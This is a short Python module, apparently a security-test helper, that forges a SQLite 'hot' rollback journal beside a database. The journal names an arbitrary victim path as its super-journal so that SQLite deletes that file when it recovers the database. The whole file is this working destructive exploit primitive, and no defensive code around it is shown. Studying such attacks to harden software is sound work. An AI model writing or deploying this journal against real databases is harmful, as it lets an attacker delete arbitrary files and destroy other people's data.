"""A rollback journal as an attacker writes it."""

from __future__ import annotations

import struct
from pathlib import Path


def write_hot_journal(database: Path, victim: Path) -> None:
    """Write a rollback journal whose super-journal is the victim: SQLite would delete both."""
    magic, name = bytes.fromhex("d9d505f920a163d7"), str(victim).encode()
    page_bytes = struct.unpack(">H", database.read_bytes()[16:18])[0]
    header = magic + struct.pack(
        ">IIIII", 0, 1, database.stat().st_size // page_bytes, 512, page_bytes
    )
    end = struct.pack(">I", (1 << 30) // page_bytes + 1) + name
    end += struct.pack(">II", len(name), sum(name)) + magic
    Path(f"{database}-journal").write_bytes(header.ljust(512, b"\0") + end)
